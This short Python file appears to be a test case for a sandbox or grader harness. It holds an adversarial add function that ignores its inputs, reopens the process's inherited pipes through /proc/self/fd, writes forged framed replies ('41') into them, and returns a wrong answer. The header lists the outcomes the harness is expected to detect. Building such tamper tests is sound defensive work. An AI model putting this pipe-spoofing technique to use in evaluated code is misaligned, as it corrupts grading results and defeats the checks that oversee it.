# problem: script
# attack: opens both pipes of the remote call again, the other way round, and puts calls and replies into them
# expect: wrong | tampered | early-exit | timeout | exception
import os
import struct


def add(a, b):
    for fd in range(3, 64):
        if os.path.isfile(fd):
            continue  # channels only: a file would be the host's
        for mode in (os.O_RDONLY, os.O_WRONLY):
            try:
                again = os.open(f"/proc/self/fd/{fd}", mode | os.O_NONBLOCK)
                if mode == os.O_WRONLY:
                    os.write(again, struct.pack(">QI", 0, 4) + b"41  ")
                else:
                    os.read(again, 1 << 16)
            except OSError:
                continue
    return 41
